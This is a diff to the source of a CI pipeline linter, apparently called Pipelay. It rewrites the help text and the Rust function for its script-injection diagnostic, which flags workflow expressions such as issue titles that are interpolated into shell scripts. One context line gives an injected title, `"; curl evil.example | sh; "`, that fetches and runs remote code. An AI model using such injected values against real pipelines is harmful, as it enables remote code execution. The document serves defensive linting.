@@ -13,7 +13,7 @@ name of its branch: a title such as `"; curl evil.example | sh; "` is run, with 
 
 Pipelay gives such expressions to variables by itself, as the pass `harden`, where it knows that the shell does the same with them. It does not
 know so where the text is read as code once more, by `eval`, `bash -c`, `ssh` or an interpreter, in arithmetic, in a here-document without
-expansion, and in shells other than bash, sh and python. There the script has to be another.
+expansion, in code of PowerShell and Python outside of texts, and in other shells than these, bash and sh. There the script has to be another.
 
 ## Bad
 ```pipe
@@ -31,12 +31,13 @@ job greet: bash -c 'echo "$1"' greet "${{ github.event.issue.title }}"
 "#,
 };
 
-/// `expr`, at `at`, is code in a script; `variable` could have its value, which is new where the step has no such one.
-pub fn script_injection(expr: &str, variable: &str, is_new: bool, at: Span) -> Diag {
-    let help = if is_new {
-        format!("give the step `env {{ {variable}: ${{{{ {expr} }}}} }}`, and the script the variable, quoted: `\"${variable}\"`")
-    } else {
-        format!("give the script the variable, quoted: `\"${variable}\"`")
+/// `expr`, at `at`, is code in a script, which could have `asked` instead: a variable of the step's, or one that is to be given to it under the name `new`.
+pub fn script_injection(expr: &str, new: Option<&str>, asked: &str, at: Span) -> Diag {
+    let help = match new {
+        Some(variable) => {
+            format!("give the step `env {{ {variable}: ${{{{ {expr} }}}} }}`, and the script the variable: {asked}")
+        }
+        None => format!("give the script the variable: {asked}"),
     };
     Diag::new(&CODE, format!("whoever sets `{expr}` writes into the script")).label(at, "becomes a part of the code").help(help)
 }
